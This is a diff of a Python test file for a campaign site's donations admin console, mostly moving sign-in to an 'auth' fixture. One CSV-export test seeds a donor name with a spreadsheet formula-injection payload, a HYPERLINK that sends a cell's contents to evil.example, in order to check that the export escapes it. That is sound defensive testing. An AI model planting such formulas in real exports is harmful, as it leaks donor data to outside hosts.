@@ -17,10 +17,9 @@ from campaign.donations.queries import raised
 from campaign.donations.stripe import get_test_checkout
 from campaign.extensions import db
 from tests.factories import donations as donation_factories
-from tests.factories.accounts import make_user
 from tests.factories.content import make_campaign
 from tests.factories.donations import make_appeal
-from tests.helpers import post_form, sign_in
+from tests.helpers import post_form
 
 _numbers = itertools.count(1)
 LIST = "/admin/donations/"
@@ -110,8 +109,8 @@ def test_donations_console_sends_visitors_to_sign_in(client, session, method, pa
     assert (donation.status, donation.amount_refunded) == (DonationStatus.PAID, 0)
 
 
-def test_console_nav_links_to_donations_after_petitions(client, session):
-    sign_in(client, make_user())
+def test_console_nav_links_to_donations_after_petitions(client, auth, session):
+    auth.sign_in()
 
     html = client.get("/admin/").get_data(as_text=True)
 
@@ -122,9 +121,9 @@ def test_console_nav_links_to_donations_after_petitions(client, session):
 # --- appeals ------------------------------------------------------------------------------
 
 
-def test_editor_creates_an_appeal_in_major_units_stored_as_minor(client, session):
+def test_editor_creates_an_appeal_in_major_units_stored_as_minor(client, auth, session):
     campaign = make_campaign(title="China Cables")
-    sign_in(client, make_user(role="editor"))
+    auth.sign_in(role="editor")
     form = client.get("/admin/donations/appeals/new").get_data(as_text=True)
     assert f'<option value="{campaign.id}">China Cables</option>' in form
     assert 'value="10, 25, 50, 100"' in form  # a new appeal starts from sensible presets
@@ -147,9 +146,9 @@ def test_editor_creates_an_appeal_in_major_units_stored_as_minor(client, session
     assert "€50.50" in page
 
 
-def test_currency_in_capitals_and_zero_decimal_amounts(client, session):
+def test_currency_in_capitals_and_zero_decimal_amounts(client, auth, session):
     campaign = make_campaign()
-    sign_in(client, make_user())
+    auth.sign_in()
 
     post_form(
         client,
@@ -172,11 +171,11 @@ def test_currency_in_capitals_and_zero_decimal_amounts(client, session):
     assert appeal.allow_monthly is False
 
 
-def test_edit_form_shows_major_units_and_saves_changes(client, session):
+def test_edit_form_shows_major_units_and_saves_changes(client, auth, session):
     appeal = make_appeal(
         preset_amounts=[500, 1050], minimum_amount=300, maximum_amount=20000, goal=100000
     )
-    sign_in(client, make_user())
+    auth.sign_in()
     url = f"/admin/donations/appeals/{appeal.id}/edit"
 
     form = client.get(url).get_data(as_text=True)
@@ -193,9 +192,9 @@ def test_edit_form_shows_major_units_and_saves_changes(client, session):
     assert appeal.status == AppealStatus.CLOSED
 
 
-def test_an_appeal_linking_to_a_partner(client, session):
+def test_an_appeal_linking_to_a_partner(client, auth, session):
     campaign = make_campaign()
-    sign_in(client, make_user())
+    auth.sign_in()
     form = client.get("/admin/donations/appeals/new").get_data(as_text=True)
     assert "takes no donations here" in form  # the hint: payment fields are then not used
 
@@ -257,10 +256,10 @@ def test_an_appeal_linking_to_a_partner(client, session):
     ],
 )
 def test_invalid_appeal_fields_are_refused_beside_the_field(
-    client, session, changes, field, message
+    client, auth, session, changes, field, message
 ):
     campaign = make_campaign()
-    sign_in(client, make_user())
+    auth.sign_in()
     before = appeal_count(session)
 
     response = post_form(client, "/admin/donations/appeals/new", appeal_fields(campaign) | changes)
@@ -273,10 +272,10 @@ def test_invalid_appeal_fields_are_refused_beside_the_field(
     assert appeal_count(session) == before
 
 
-def test_duplicate_slug_is_refused_when_creating_and_editing(client, session):
+def test_duplicate_slug_is_refused_when_creating_and_editing(client, auth, session):
     make_appeal(slug="taken")
     mine = make_appeal(slug="mine", title="Mine")
-    sign_in(client, make_user())
+    auth.sign_in()
     before = appeal_count(session)
 
     create = post_form(
@@ -297,9 +296,9 @@ def test_duplicate_slug_is_refused_when_creating_and_editing(client, session):
     assert (mine.slug, mine.title, mine.currency) == ("mine", "Mine", "gbp")
 
 
-def test_an_appeal_keeps_its_slug_and_may_save_it_unchanged(client, session):
+def test_an_appeal_keeps_its_slug_and_may_save_it_unchanged(client, auth, session):
     mine = make_appeal(slug="mine")
-    sign_in(client, make_user())
+    auth.sign_in()
 
     response = post_form(
         client,
@@ -310,10 +309,10 @@ def test_an_appeal_keeps_its_slug_and_may_save_it_unchanged(client, session):
     assert response.status_code == 303
 
 
-def test_currency_stays_once_the_appeal_has_donations(client, session):
+def test_currency_stays_once_the_appeal_has_donations(client, auth, session):
     appeal = make_appeal(slug="mine", title="Mine")
     make_donation(appeal, status=DonationStatus.PENDING)
-    sign_in(client, make_user())
+    auth.sign_in()
     url = f"/admin/donations/appeals/{appeal.id}/edit"
 
     refused = post_form(client, url, appeal_fields(appeal.campaign, slug="mine", currency="eur"))
@@ -328,7 +327,7 @@ def test_currency_stays_once_the_appeal_has_donations(client, session):
     assert appeal.title == "The legal fund"  # the second save went through
 
 
-def test_appeal_list_shows_raised_donors_goal_and_partner_clicks(client, session):
+def test_appeal_list_shows_raised_donors_goal_and_partner_clicks(client, auth, session):
     campaign = make_campaign(title="China Cables")
     appeal = make_appeal(campaign, title="Legal fund", goal=500000)
     make_donation(appeal, 2500)
@@ -339,7 +338,7 @@ def test_appeal_list_shows_raised_donors_goal_and_partner_clicks(client, session
     )
     partner.external_clicks = 1234
     draft = make_appeal(campaign, title="Not yet", status=AppealStatus.DRAFT, goal=None)
-    sign_in(client, make_user())
+    auth.sign_in()
 
     html = client.get("/admin/donations/appeals").get_data(as_text=True)
 
@@ -405,8 +404,8 @@ def totals_table(html: str) -> str:
     return html[html.index('id="totals-heading"') : html.index('id="days-heading"')]
 
 
-def test_totals_per_currency_take_refunds_and_disputes_off(client, session, mixed):
-    sign_in(client, make_user())
+def test_totals_per_currency_take_refunds_and_disputes_off(client, auth, session, mixed):
+    auth.sign_in()
 
     totals = totals_table(client.get(LIST).get_data(as_text=True))
 
@@ -426,9 +425,9 @@ def test_totals_per_currency_take_refunds_and_disputes_off(client, session, mixe
     assert raised(gbp).amount == 7800
 
 
-def test_filters_by_appeal_status_and_interval(client, session, mixed):
+def test_filters_by_appeal_status_and_interval(client, auth, session, mixed):
     gbp, usd, rows = mixed
-    sign_in(client, make_user())
+    auth.sign_in()
 
     by_appeal = client.get(f"{LIST}?appeal={usd.id}").get_data(as_text=True)
     refunded = client.get(f"{LIST}?status=refunded").get_data(as_text=True)
@@ -444,17 +443,17 @@ def test_filters_by_appeal_status_and_interval(client, session, mixed):
     assert "£12.00" in totals_table(monthly)
 
 
-def test_an_unknown_filter_shows_everything(client, session, mixed):
-    sign_in(client, make_user())
+def test_an_unknown_filter_shows_everything(client, auth, session, mixed):
+    auth.sign_in()
 
     html = client.get(f"{LIST}?status=stolen&appeal=nope").get_data(as_text=True)
 
     assert f"Donations 1{DASH}9 of 9" in html
 
 
-def test_list_is_newest_first_with_donor_amounts_and_stripe_ids(client, session, mixed):
+def test_list_is_newest_first_with_donor_amounts_and_stripe_ids(client, auth, session, mixed):
     _gbp, _usd, rows = mixed
-    sign_in(client, make_user())
+    auth.sign_in()
 
     html = client.get(LIST).get_data(as_text=True)
 
@@ -468,7 +467,7 @@ def test_list_is_newest_first_with_donor_amounts_and_stripe_ids(client, session,
     assert f'<code title="{pi}">{pi[:15]}…</code>' in html
 
 
-def test_fee_cover_and_monthly_renewals_are_shown(client, session):
+def test_fee_cover_and_monthly_renewals_are_shown(client, auth, session):
     appeal = make_appeal()
     first = make_donation(
         appeal,
@@ -489,7 +488,7 @@ def test_fee_cover_and_monthly_renewals_are_shown(client, session):
         invoice_id="in_y",
         payment_intent_id=None,
     )
-    sign_in(client, make_user())
+    auth.sign_in()
 
     html = client.get(LIST).get_data(as_text=True)
 
@@ -498,12 +497,12 @@ def test_fee_cover_and_monthly_renewals_are_shown(client, session):
     assert f"renewal of #{first.id}" in html
 
 
-def test_donations_are_paginated_by_fifty(client, session):
+def test_donations_are_paginated_by_fifty(client, auth, session):
     appeal = make_appeal()
     start = utcnow() - timedelta(hours=1)
     for n in range(51):
         make_donation(appeal, 100 + n, created_at=start + timedelta(seconds=n))
-    sign_in(client, make_user())
+    auth.sign_in()
 
     first = client.get(LIST).get_data(as_text=True)
     second = client.get(f"{LIST}?page=2").get_data(as_text=True)
@@ -514,8 +513,8 @@ def test_donations_are_paginated_by_fifty(client, session):
     assert "£1.00" in second  # the oldest, on the last page
 
 
-def test_paid_by_day_covers_the_last_thirty_days_per_currency(client, session, mixed):
-    sign_in(client, make_user())
+def test_paid_by_day_covers_the_last_thirty_days_per_currency(client, auth, session, mixed):
+    auth.sign_in()
 
     html = client.get(LIST).get_data(as_text=True)
 
@@ -533,9 +532,9 @@ def test_paid_by_day_covers_the_last_thirty_days_per_currency(client, session, m
 # --- CSV ----------------------------------------------------------------------------------
 
 
-def test_csv_export_follows_the_filter_and_gives_major_units(client, session, mixed):
+def test_csv_export_follows_the_filter_and_gives_major_units(client, auth, session, mixed):
     gbp, _usd, rows = mixed
-    sign_in(client, make_user(role="editor"))
+    auth.sign_in(role="editor")
 
     response = client.get(f"/admin/donations/export.csv?appeal={gbp.id}")
 
@@ -561,14 +560,14 @@ def test_csv_export_follows_the_filter_and_gives_major_units(client, session, mi
     assert table[0]["id"] == str(rows["monthly"].id)  # newest first
 
 
-def test_csv_export_neutralises_cells_a_spreadsheet_would_run(client, session):
+def test_csv_export_neutralises_cells_a_spreadsheet_would_run(client, auth, session):
     appeal = make_appeal()
     make_donation(
         appeal,
         donor_name='=HYPERLINK("https://evil.example?"&A2,"Click")',
         donor_email="@SUM(1+1)@example.org",
     )
-    sign_in(client, make_user())
+    auth.sign_in()
 
     table = csv_rows(client.get("/admin/donations/export.csv").get_data(as_text=True))
 
@@ -576,10 +575,10 @@ def test_csv_export_neutralises_cells_a_spreadsheet_would_run(client, session):
     assert table[0]["donor_email"] == "'@SUM(1+1)@example.org"
 
 
-def test_export_donations_command_prints_the_same_csv(app, client, session, mixed):
+def test_export_donations_command_prints_the_same_csv(app, client, auth, session, mixed):
     gbp, _usd, _rows = mixed
     session.commit()
-    sign_in(client, make_user())
+    auth.sign_in()
     from_console = client.get(f"/admin/donations/export.csv?appeal={gbp.id}")
 
     runner = app.test_cli_runner()
@@ -630,10 +629,10 @@ def test_export_donations_refuses_an_unknown_appeal_with_exit_code_2(app, sessio
     ],
 )
 def test_banner_says_what_stripe_set_up_is_missing_on_every_page(
-    client, session, app_settings, settings, shown, absent
+    client, auth, session, app_settings, settings, shown, absent
 ):
     appeal = make_appeal()
-    sign_in(client, make_user())
+    auth.sign_in()
     app_settings(**settings)
 
     for path in (
@@ -648,8 +647,8 @@ def test_banner_says_what_stripe_set_up_is_missing_on_every_page(
         assert absent not in banner
 
 
-def test_no_banner_when_stripe_is_fully_set_up(client, session, app_settings):
-    sign_in(client, make_user())
+def test_no_banner_when_stripe_is_fully_set_up(client, auth, session, app_settings):
+    auth.sign_in()
     app_settings(STRIPE_SECRET_KEY="sk_test_x", STRIPE_WEBHOOK_SECRET="whsec_x")
 
     html = client.get(LIST).get_data(as_text=True)
@@ -658,8 +657,8 @@ def test_no_banner_when_stripe_is_fully_set_up(client, session, app_settings):
     assert "Refund (test)" not in html
 
 
-def test_banner_stays_off_other_console_pages(client, session):
-    sign_in(client, make_user())
+def test_banner_stays_off_other_console_pages(client, auth, session):
+    auth.sign_in()
 
     assert "stripe-banner" not in client.get("/admin/petitions/").get_data(as_text=True)
 
@@ -682,12 +681,12 @@ def paid_through_the_test_checkout(appeal: Appeal, amount: int, interval=Interva
     return donation
 
 
-def test_refund_button_lowers_the_appeals_raised_total(client, session):
+def test_refund_button_lowers_the_appeals_raised_total(client, auth, session):
     appeal = make_appeal()
     kept = paid_through_the_test_checkout(appeal, 1000)
     donation = paid_through_the_test_checkout(appeal, 2500)
     assert raised(appeal).amount == 3500
-    sign_in(client, make_user(role="editor"))
+    auth.sign_in(role="editor")
     page = client.get(LIST).get_data(as_text=True)
     assert "Refund (test)" in page
     assert "Renew (test)" not in page  # one-off gifts
@@ -708,12 +707,12 @@ def test_refund_button_lowers_the_appeals_raised_total(client, session):
     assert "refunded through a signed test event" in client.get(LIST).get_data(as_text=True)
 
 
-def test_refund_button_refunds_what_is_left_of_a_partly_refunded_gift(client, session):
+def test_refund_button_refunds_what_is_left_of_a_partly_refunded_gift(client, auth, session):
     appeal = make_appeal()
     donation = paid_through_the_test_checkout(appeal, 2500)
     get_test_checkout().refund(donation, 1000)
     assert raised(appeal).amount == 1500
-    sign_in(client, make_user())
+    auth.sign_in()
 
     post_form(client, f"/admin/donations/{donation.id}/test-refund", {}, form_url=LIST)
 
@@ -721,10 +720,10 @@ def test_refund_button_refunds_what_is_left_of_a_partly_refunded_gift(client, se
     assert raised(appeal).amount == 0
 
 
-def test_a_refunded_gift_cannot_be_refunded_again(client, session):
+def test_a_refunded_gift_cannot_be_refunded_again(client, auth, session):
     appeal = make_appeal()
     donation = make_donation(appeal, amount_refunded=2500, status=DonationStatus.REFUNDED)
-    sign_in(client, make_user())
+    auth.sign_in()
     assert "Refund (test)" not in client.get(LIST).get_data(as_text=True)
 
     response = post_form(client, f"/admin/donations/{donation.id}/test-refund", {}, form_url=LIST)
@@ -733,11 +732,11 @@ def test_a_refunded_gift_cannot_be_refunded_again(client, session):
     assert "cannot be refunded now" in client.get(LIST).get_data(as_text=True)
 
 
-def test_renew_and_stop_buttons_for_a_monthly_gift(client, session):
+def test_renew_and_stop_buttons_for_a_monthly_gift(client, auth, session):
     appeal = make_appeal()
     first = paid_through_the_test_checkout(appeal, 1200, Interval.MONTH)
     assert first.subscription_status == "active"
-    sign_in(client, make_user())
+    auth.sign_in()
     page = client.get(LIST).get_data(as_text=True)
     assert "Renew (test)" in page and "Stop (test)" in page
 
@@ -768,7 +767,7 @@ def test_renew_and_stop_buttons_for_a_monthly_gift(client, session):
 )
 @pytest.mark.parametrize("action", ["test-refund", "test-renew", "test-stop"])
 def test_test_buttons_are_hidden_and_refused_outside_local_test_mode(
-    client, session, app_settings, settings, action
+    client, auth, session, app_settings, settings, action
 ):
     appeal = make_appeal()
     donation = make_donation(
@@ -780,7 +779,7 @@ def test_test_buttons_are_hidden_and_refused_outside_local_test_mode(
         invoice_id="in_test_9",
         payment_intent_id=None,
     )
-    sign_in(client, make_user())
+    auth.sign_in()
     app_settings(**settings)
     page = client.get(LIST).get_data(as_text=True)
     assert "(test)" not in page
@@ -794,13 +793,15 @@ def test_test_buttons_are_hidden_and_refused_outside_local_test_mode(
     assert session.scalar(select(func.count()).select_from(Donation)) == 1
 
 
-def test_refund_button_works_beside_a_configured_webhook_secret(client, session, app_settings):
+def test_refund_button_works_beside_a_configured_webhook_secret(
+    client, auth, session, app_settings
+):
     # Development with STRIPE_WEBHOOK_SECRET but no secret key: still the local test checkout,
     # and its events must be signed with the secret the webhook code checks.
     app_settings(STRIPE_WEBHOOK_SECRET="whsec_configured_for_stripe_listen")
     appeal = make_appeal()
     donation = paid_through_the_test_checkout(appeal, 2500)
-    sign_in(client, make_user())
+    auth.sign_in()
 
     post_form(client, f"/admin/donations/{donation.id}/test-refund", {}, form_url=LIST)
 
